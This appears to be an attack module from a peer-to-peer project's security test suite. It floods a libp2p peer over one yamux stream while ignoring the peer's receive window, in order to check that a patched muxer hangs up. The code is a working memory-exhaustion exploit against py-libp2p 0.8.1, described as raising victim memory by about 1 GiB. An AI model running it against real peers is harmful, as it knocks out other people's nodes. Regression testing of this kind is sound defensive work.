"""One stream that ignores the victim's yamux receive window (issue 16, item 3).

The attacker opens a stream on a protocol whose handler does not read what follows the request
(the ad table: it writes the table and closes its side), tells its own muxer that the victim
granted unlimited credit, and writes. py-libp2p 0.8.1 logged "exceeded receive window" and
buffered anyway: 1 GiB sent raised a victim from 650 to 1,683 MiB. The patched muxer closes the
connection at the first byte past the window and penalises the sender (docs/library-patches.md).
"""

from __future__ import annotations

import trio

from garage_p2p.daemon import Peer
from garage_p2p.mesh.discovery import PROTOCOL_CAPS

from . import Target

CHUNK = 64 * 1024
UNLIMITED = 1 << 62


async def attack(
    attacker: Peer, victim: Target, *, megabytes: int = 48, protocol: str = PROTOCOL_CAPS, timeout: float = 30.0
) -> dict[str, int | float | str]:
    """Write ``megabytes`` on one stream regardless of the window; stop when the victim hangs up."""
    stream = await attacker.mesh.open_stream(victim.peer_id, list(victim.addrs), protocol)
    stream.muxed_stream.send_window = UNLIMITED  # our own muxer no longer waits for the victim's credit
    chunk = bytes(CHUNK)
    sent, ended = 0, "sent everything"
    with trio.move_on_after(timeout):
        try:
            while sent < megabytes << 20:
                await stream.write(chunk)
                sent += len(chunk)
        except Exception as exc:  # the victim closed the connection: what a fixed peer does
            ended = f"{type(exc).__name__}: {exc}"[:200]
    return {"sent_bytes": sent, "payload_bytes": megabytes << 20, "ended": ended}
